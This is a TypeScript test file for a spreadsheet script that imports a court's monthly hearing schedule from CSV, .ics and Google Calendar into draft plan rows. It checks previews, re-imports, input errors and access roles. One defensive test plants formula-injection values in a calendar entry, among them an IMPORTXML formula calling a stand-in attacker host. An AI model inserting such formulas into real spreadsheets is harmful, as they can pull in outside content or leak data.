/**
 * The schedule import on the BUILT script in the sandbox: a month of the Court's hearings and
 * activities from a CSV, a pasted table, an .ics export and a shared Google Calendar becomes a
 * previewed, then written, draft plan in one batch; a second import adds nothing; bad input writes
 * nothing; roles; the menu's dialog.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Sandbox } from '../../sandbox/src/sandbox';
import { addCalendar, calendarFromJson } from '../../sandbox/src/services/calendar';
import type { ImportScheduleValue, PreviewScheduleValue, Result } from '../../src/shared/contract';
import { deleteColumns, editCell, sheetView } from '../../sandbox/src/actions';
import { addPeople, KABAG, newWorkbook, OTHER, records, setSetting, snapshot, STAFF, TAB, viaSubmitPage } from './helpers';

const FIX = path.resolve(__dirname, '../fixtures/schedule');
const CAL = 'agenda-mk@group.calendar.google.com';
/** Thursday 26 November 2026, 09:00 WIB: next month is December. */
const NOV26 = Date.UTC(2026, 10, 26, 2);

function setup(): Sandbox {
  const sb = newWorkbook({ clockMs: NOV26 });
  addPeople(sb);
  return sb;
}

function call<T>(sb: Sandbox, fn: string, arg: unknown, user = STAFF): Result<T> {
  const r = sb.run(fn, { kind: 'scriptRun', user, args: [arg] });
  if (r.error) throw new Error(`${fn}: ${r.error.message}`);
  return r.value as Result<T>;
}
function ok<T>(r: Result<T>): T {
  if (!r.ok) throw new Error(`${r.error.code}: ${r.error.message}`);
  return r.value;
}
function file(name: string): { fileName: string; bytes: number[] } {
  return { fileName: name, bytes: [...readFileSync(path.join(FIX, name))] };
}
const hearings = () => ({ source: 'tabel', period: '2026-12', ...file('jadwal-sidang-2026-12.csv') });
const konsep = (sb: Sandbox) => records(sb, TAB.konsep).filter((r) => r.ID);

describe('schedule import', () => {
  test('a month of hearings from a CSV: preview first (nothing written), then one batch of Draf items with their source ids', () => {
    const sb = setup();
    const before = snapshot(sb);
    const p = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', hearings()));
    expect(snapshot(sb)).toBe(before);
    expect(p.problems).toEqual([]);
    expect(p.rows).toHaveLength(8);
    expect(p.rows.every((r) => r.action === 'baru' && r.include)).toBe(true);
    const putusan = p.rows.find((r) => r.activity.includes('25/PUU-XXIV/2026'));
    expect(putusan).toMatchObject({ kindLabel: 'Sidang Pengucapan Putusan/Ketetapan', platforms: ['YouTube', 'X', 'Instagram'], formats: 'YouTube: siaran langsung; X: pembaruan; Instagram: carousel', source: 'jadwal-sidang-2026-12.csv baris 8', actionLabel: 'Baru' });

    // The user unticks one row (the SKLN hearing) and writes the rest.
    const keys = p.rows.filter((r) => !r.activity.includes('SKLN')).map((r) => r.key);
    const run = sb.run('apiImportSchedule', { kind: 'scriptRun', user: STAFF, args: [{ ...hearings(), keys }] });
    const v = ok(run.value as Result<ImportScheduleValue>);
    expect(v).toMatchObject({ added: 7, updated: 0, ids: ['K-0001', 'K-0002', 'K-0003', 'K-0004', 'K-0005', 'K-0006', 'K-0007'] });
    expect(v.message).toBe('7 konsep baru dan 0 konsep diperbarui ditulis sebagai Draf untuk Desember 2026. Periksa PIC dan platformnya, lalu ajukan seperti biasa.');
    // One batch: the new rows are one setValues on the plan tab for the columns before the owner's
    // record columns (Status .. Diputuskan Pada, left blank) and one after them; the one Log line one
    // held entry (a staff execution holds its Log lines for the owner's trigger: one setProperties).
    expect(run.calls.filter((c) => c.method === 'Range.setValues' || c.method === 'Sheet.appendRow').length).toBe(2);
    expect(run.calls.filter((c) => c.method === 'script.setProperties').length).toBe(1);

    const rows = konsep(sb);
    expect(rows).toHaveLength(7);
    const k = rows.find((r) => r['Kegiatan/Informasi'].includes('25/PUU-XXIV/2026')) as Record<string, string>;
    expect(k).toMatchObject({ Periode: '2026-12', Status: '', Kategori: 'Putusan', Platform: 'YouTube, X, Instagram', PIC: STAFF, 'Sumber Jadwal': putusan?.key });
    expect(k['Kegiatan/Informasi']).toBe('Sidang Pengucapan Putusan/Ketetapan Perkara Nomor 25/PUU-XXIV/2026 (Pengujian UU Nomor 1 Tahun 2024 tentang Informasi dan Transaksi Elektronik)');
    expect(k.Deskripsi).toContain('Pukul 13.30 WIB · Ruang Sidang Pleno');
    expect(rows.some((r) => r['Kegiatan/Informasi'].includes('SKLN'))).toBe(false);
    const log = records(sb, TAB.log).filter((r) => r.Aksi === 'Impor jadwal');
    expect(log).toHaveLength(1);
    // Her own execution's line, moved in by the owner's trigger: marked as reported.
    expect(log[0].Detail).toBe('7 baru, 0 diperbarui, dari jadwal-sidang-2026-12.csv [dilaporkan dari eksekusi staf@example.org]');
  });

  test('importing twice adds nothing; a changed event updates its item; submitted items are left alone', () => {
    const sb = setup();
    const p = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', hearings()));
    ok(call<ImportScheduleValue>(sb, 'apiImportSchedule', { ...hearings(), keys: p.rows.map((r) => r.key) }));
    const again = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', hearings()));
    expect(again.rows.map((r) => r.action)).toEqual(new Array(8).fill('sama'));
    expect(again.rows.every((r) => !r.include)).toBe(true);
    const r2 = call<ImportScheduleValue>(sb, 'apiImportSchedule', { ...hearings(), keys: again.rows.map((r) => r.key) });
    expect(r2.ok).toBe(false);
    expect(!r2.ok && r2.error.message).toBe('Tidak ada baris yang dipilih untuk ditulis. Centang baris yang ingin dijadikan konsep.');
    expect(konsep(sb)).toHaveLength(8);

    // The Court moves a room: the same row (same date, time and case) now says another room, in a
    // file saved under another name (the file's name is not part of an event's identity).
    const moved = readFileSync(path.join(FIX, 'jadwal-sidang-2026-12.csv'), 'utf8').replace('Perbaikan Permohonan;Ruang Sidang Panel 1', 'Perbaikan Permohonan;Ruang Sidang Panel 3');
    const src = { source: 'tabel', period: '2026-12', fileName: 'jadwal.csv', content: moved };
    const p3 = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', src));
    const changed = p3.rows.filter((r) => r.action === 'perbarui');
    expect(changed).toHaveLength(1);
    expect(changed[0]).toMatchObject({ existingId: 'K-0003', actionLabel: 'Perbarui K-0003' });
    const v = ok(call<ImportScheduleValue>(sb, 'apiImportSchedule', { ...src, keys: p3.rows.map((r) => r.key) }));
    expect(v).toMatchObject({ added: 0, updated: 1, ids: ['K-0003'] });
    const rows = konsep(sb);
    expect(rows).toHaveLength(8);
    expect(rows.find((r) => r.ID === 'K-0003')?.Deskripsi).toContain('Ruang Sidang Panel 3');

    // Once the month is submitted, the items are Diajukan: a re-import marks them locked.
    const sub = sb.run('apiSubmitConcept', { kind: 'scriptRun', user: STAFF, args: [{ period: '2026-12' }] });
    expect(viaSubmitPage(sb, STAFF, sub.value as Result<unknown>).ok).toBe(true);
    const p4 = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', { ...src, content: moved.replace('Panel 3', 'Panel 4') }));
    expect(p4.rows.map((r) => r.action)).toEqual(new Array(8).fill('terkunci'));
  });

  test('an .ics export: zones read in WIB, weekends marked, hearings already planned from the CSV marked as duplicates', () => {
    const sb = setup();
    const p0 = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', hearings()));
    ok(call<ImportScheduleValue>(sb, 'apiImportSchedule', { ...hearings(), keys: p0.rows.map((r) => r.key) }));
    const p = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', { source: 'ics', period: '2026-12', ...file('agenda-mk.ics') }));
    expect(p.problems).toEqual([]);
    expect(p.outside).toBe(1);
    expect(p.notes.map((n) => n.reason)).toEqual(['Acara "Seminar yang batal" dibatalkan di kalender; tidak dibuat konsep.']);
    const by = (s: string) => p.rows.find((r) => r.activity.includes(s));
    expect(by('38/PUU-XXIV/2026')).toMatchObject({ date: '2026-12-01', time: '09:00', action: 'duplikat', existingId: 'K-0001', include: false });
    expect(by('25/PUU-XXIV/2026')).toMatchObject({ action: 'duplikat', include: false });
    expect(by('Hari Ibu')).toMatchObject({ date: '2026-12-19', time: '', weekend: true });
    expect(by('Diskusi Publik')).toMatchObject({ date: '2026-12-13', weekend: true });
    expect(by('Belanda')).toMatchObject({ date: '2026-12-09', time: '13:30', action: 'baru', platforms: ['Instagram', 'Facebook'] });
  });

  test('the Court\'s Google Calendar from Pengaturan, read as the user; a calendar they cannot read, or none set, is a plain message', () => {
    const sb = setup();
    const none = call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', { source: 'kalender', period: '2026-12' });
    expect(!none.ok && none.error.message).toContain('Pengaturan "kalender_jadwal" masih kosong');
    // The fixture calendar, shared with one staff member only.
    addCalendar(sb.state, { ...calendarFromJson(JSON.parse(readFileSync(path.join(FIX, 'kalender-agenda-mk.json'), 'utf8'))), readers: [STAFF] });
    setSetting(sb, 'kalender_jadwal', CAL);
    const p = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', { source: 'kalender', period: '2026-12' }));
    expect(p.sourceName).toBe('kalender "Agenda Mahkamah"');
    expect(p.outside).toBe(0); // the November meeting is outside the range read
    expect(p.rows.map((r) => [r.key, r.date, r.time, r.kindLabel, r.holiday])).toEqual([
      ['ev5@google.com#2026-12-04', '2026-12-04', '10:00', 'Kegiatan', ''],
      ['ev4@google.com', '2026-12-08', '09:00', 'Sidang Pemeriksaan Pendahuluan', ''],
      ['ev5@google.com#2026-12-11', '2026-12-11', '10:00', 'Kegiatan', ''],
      ['ev1@google.com', '2026-12-23', '13:30', 'Sidang Pengucapan Putusan/Ketetapan', ''],
      ['ev2@google.com', '2026-12-24', '', 'Peringatan/HUT', 'Cuti Bersama Kelahiran Yesus Kristus'],
    ]);
    expect(p.rows.find((r) => r.key === 'ev1@google.com')?.activity).toBe('Sidang Pengucapan Putusan/Ketetapan Perkara Nomor 40/PUU-XXIV/2026 (Pengujian UU Nomor 2 Tahun 2024 tentang Desa)');
    const v = ok(call<ImportScheduleValue>(sb, 'apiImportSchedule', { source: 'kalender', period: '2026-12', keys: ['ev1@google.com', 'ev2@google.com', 'ev5@google.com#2026-12-04', 'ev5@google.com#2026-12-11'] }));
    expect(v.added).toBe(4);
    expect(konsep(sb).map((r) => r['Sumber Jadwal'])).toEqual(['ev5@google.com#2026-12-04', 'ev5@google.com#2026-12-11', 'ev1@google.com', 'ev2@google.com']);
    // The calendar again: the written four are unchanged, the unticked one is still new.
    const again = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', { source: 'kalender', period: '2026-12' }));
    expect(again.rows.map((r) => r.action)).toEqual(['sama', 'baru', 'sama', 'sama', 'sama']);
    // Another staff member the calendar is not shared with.
    const denied = call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', { source: 'kalender', period: '2026-12' }, 'ppnpn@example.org');
    expect(!denied.ok && denied.error.message).toBe(`Kalender "${CAL}" tidak ditemukan atau Anda tidak punya akses untuk membacanya. Periksa ID di Pengaturan "kalender_jadwal", atau minta pemilik kalender membagikannya ke email Anda.`);
  });

  test('recurring formats from the Strategi land on working days; rules in Pengaturan change the suggestions', () => {
    const sb = setup();
    const saved = sb.run('apiSaveStrategy', {
      kind: 'scriptRun',
      user: KABAG,
      args: [{ period: '2026-12', directions: [{ platform: 'YouTube', text: 'Siarkan sidang putusan.\nRutin: Tahukah Kamu setiap Jumat (video pendek)' }, { platform: 'X', text: 'Kabarkan setiap sidang.' }], reports: { analisisMedia: '', diseminasiPerkara: '', auditKehumasan: '', referensi: '' } }],
    });
    expect((saved.value as Result<unknown>).ok).toBe(true);
    setSetting(sb, 'aturan_jadwal.putusan', 'YouTube: siaran langsung; X: utas; TikTok: video');
    const p = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', hearings()));
    expect(p.rows.find((r) => r.activity.includes('25/PUU'))).toMatchObject({ platforms: ['YouTube', 'X'], formats: 'YouTube: siaran langsung; X: utas' });
    // Fridays of December 2026: the 25th is Christmas, and nothing after it is a working day that week.
    expect(p.rows.filter((r) => r.activity === 'Tahukah Kamu').map((r) => r.date)).toEqual(['2026-12-04', '2026-12-11', '2026-12-18']);
  });

  test('bad input gets a plain message and writes nothing', () => {
    const sb = setup();
    const before = snapshot(sb);
    const notIcs = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', { source: 'ics', period: '2026-12', fileName: 'x.ics', content: 'bukan kalender' }));
    expect(notIcs.problems.map((x) => x.reason)).toEqual(['Berkas tidak terbaca sebagai kalender (.ics): tidak ada BEGIN:VCALENDAR. Ekspor ulang kalender sebagai iCalendar (.ics).']);
    const table = 'Tanggal;Pukul;Nomor Perkara;Agenda\n2026-12-01;09.00;38/PUU-XXIV/2026;Pemeriksaan Pendahuluan\n;09.00;;Kunjungan tanpa tanggal?\n2026-12-02;10.00;38-PUU-2026;Pengucapan Putusan\n';
    const src = { source: 'tabel', period: '2026-12', content: table };
    const p = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', src));
    expect(p.problems.map((x) => [x.line, x.reason])).toEqual([[4, 'Nomor perkara "38-PUU-2026" tidak dikenali. Tulis seperti 38/PUU-XXIV/2026.']]);
    const r = call<ImportScheduleValue>(sb, 'apiImportSchedule', { ...src, keys: p.rows.map((x) => x.key) });
    expect(!r.ok && r.error.code).toBe('VALIDATION');
    expect(!r.ok && r.error.message).toBe('Jadwal belum dapat diimpor: 1 masalah. Tidak ada yang ditulis. Perbaiki sumbernya, lalu baca ulang.');
    expect(!r.ok && r.error.details).toEqual([{ row: 4, message: 'Nomor perkara "38-PUU-2026" tidak dikenali. Tulis seperti 38/PUU-XXIV/2026.' }]);
    const noFile = call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', { source: 'tabel', period: '2026-12' });
    expect(!noFile.ok && noFile.error.message).toContain('Belum ada berkas atau tabel');
    const badPeriod = call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', { ...hearings(), period: 'Desember' });
    expect(!badPeriod.ok && badPeriod.error.message).toContain('Periode "Desember" tidak sah');
    expect(snapshot(sb)).toBe(before);
  });

  test('Sumber Jadwal is Siaran\'s: a hand edit is put back, so the next import still finds the item', () => {
    const sb = setup();
    const p = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', hearings()));
    ok(call<ImportScheduleValue>(sb, 'apiImportSchedule', { ...hearings(), keys: p.rows.map((r) => r.key) }));
    const col = String.fromCharCode(65 + Object.keys(konsep(sb)[0]).indexOf('Sumber Jadwal'));
    expect(col).toBe('O');
    editCell(sb, STAFF, TAB.konsep, `${col}2`, 'diubah');
    expect(konsep(sb)[0]['Sumber Jadwal']).toBe(p.rows[0].key);
    expect(ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', hearings())).rows.every((r) => r.action === 'sama')).toBe(true);
  });

  test('text from a schedule never becomes a formula, and a second import of it still finds its item', () => {
    const sb = setup();
    const ics = ['BEGIN:VCALENDAR', 'BEGIN:VEVENT', 'UID:=1+1', 'SUMMARY:=IMPORTXML("https://evil.example/x"\\, "//a")', 'LOCATION:+62 ruang', 'DTSTART:20261202T020000Z', 'END:VEVENT', 'END:VCALENDAR', ''].join('\r\n');
    const src = { source: 'ics', period: '2026-12', fileName: 'x.ics', content: ics };
    const p = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', src));
    ok(call<ImportScheduleValue>(sb, 'apiImportSchedule', { ...src, keys: p.rows.map((r) => r.key) }));
    const row = konsep(sb)[0];
    expect(row['Kegiatan/Informasi']).toBe('=IMPORTXML("https://evil.example/x", "//a")');
    expect(row['Sumber Jadwal']).toBe('=1+1');
    expect(row.Deskripsi).toBe('Pukul 09.00 WIB · +62 ruang · Format: Instagram: foto; Facebook: foto');
    expect(sheetView(sb, TAB.konsep).rows.flat().some((c) => c === '2')).toBe(false);
    expect(ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', src)).rows.map((r) => r.action)).toEqual(['sama']);
  });

  test('a workbook from before the import (no Sumber Jadwal column) is told to run setup, and setup adds it', () => {
    const sb = setup();
    deleteColumns(sb, KABAG, TAB.konsep, 15, 1);
    const r = call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', hearings());
    expect(!r.ok && r.error.code).toBe('SETUP_NEEDED');
    expect(!r.ok && r.error.message).toContain('Sumber Jadwal');
    expect(sb.run('menuSetup', { kind: 'menu', user: KABAG }).ok).toBe(true);
    expect(ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', hearings())).rows).toHaveLength(8);
  });

  test('staff only; the menu opens the dialog', () => {
    const sb = setup();
    expect(call(sb, 'apiPreviewSchedule', hearings(), KABAG)).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    expect(call(sb, 'apiImportSchedule', { ...hearings(), keys: [] }, OTHER)).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    const r = sb.run('menuImportSchedule', { kind: 'menu', user: STAFF });
    expect(r.error).toBeUndefined();
    const dialog = r.ui.find((u) => u.type === 'dialog') as { html: string; title: string } | undefined;
    expect(dialog?.title).toBe('Draf rencana dari jadwal');
    expect(dialog?.html).toContain('apiPreviewSchedule');
  });
});
